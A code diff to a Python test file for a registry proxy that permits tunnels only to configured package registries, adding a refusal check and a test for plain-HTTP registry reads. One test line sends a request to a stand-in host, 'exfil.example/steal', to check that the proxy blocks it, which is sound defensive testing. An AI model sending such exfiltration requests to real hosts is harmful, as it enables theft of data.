@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import http.server
 import socket
 import threading
 from collections.abc import Iterator
@@ -97,15 +98,53 @@ def test_a_tunnel_to_an_allowed_host_carries_bytes_and_the_rest_is_refused_and_l
             status, _ = _ask(port, f"CONNECT 127.0.0.1:{other} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
             assert status == b"HTTP/1.1 403 Forbidden"
             status, _ = _ask(port, b"GET http://exfil.example/steal?k=1 HTTP/1.1\r\nHost: exfil.example\r\n\r\n")
+            assert status == b"HTTP/1.1 403 Forbidden"
+            status, _ = _ask(port, f"POST http://127.0.0.1:{allowed}/upload HTTP/1.1\r\n\r\n".encode())
             assert status == b"HTTP/1.1 405 Method Not Allowed"
             status, _ = _ask(port, b"\x16\x03\x01 not http at all\r\n\r\n")  # TLS straight away
             assert status == b"HTTP/1.1 405 Method Not Allowed"
     evidence = proxy.evidence()
     assert evidence["reached"] == {f"127.0.0.1:{allowed}": 1}
-    assert evidence["refused"][:2] == [
+    assert evidence["refused"][:3] == [
         f"127.0.0.1:{other}: not a configured registry",
-        "exfil.example: GET: only HTTPS tunnels go out",
+        "exfil.example: not a configured registry",
+        f"127.0.0.1:{allowed}: POST: only HTTPS tunnels go out",
     ]
+
+
+def test_a_registry_configured_at_an_http_address_is_read_with_plain_requests_one_per_connection() -> None:
+    seen: list[bytes] = []
+
+    class Index(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            seen.append(self.requestline.encode() + b"|" + str(self.headers.get("Connection")).encode())
+            self.send_response(200)
+            self.send_header("Content-Length", "5")
+            self.end_headers()
+            self.wfile.write(b"index")
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        index = f"127.0.0.1:{server.server_address[1]}"
+        proxy = RegistryProxy(registry_hosts(f"http://{index}/simple", None))
+        with _proxy(proxy) as port, socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
+            conn.sendall(f"GET http://{index}/simple/six/?x=1 HTTP/1.1\r\nHost: {index}\r\n"
+                         "Proxy-Connection: keep-alive\r\n\r\n".encode())  # fmt: skip
+            answer = b""
+            while chunk := conn.recv(4096):
+                answer += chunk
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join()
+    assert answer.startswith(b"HTTP/1.0 200") and answer.endswith(b"\r\n\r\nindex"), answer
+    assert seen == [b"GET /simple/six/?x=1 HTTP/1.1|close"]
+    assert proxy.evidence()["reached"] == {index: 1}
 
 
 def test_a_registry_name_is_looked_up_once_and_again_when_the_resolver_says_try_again(
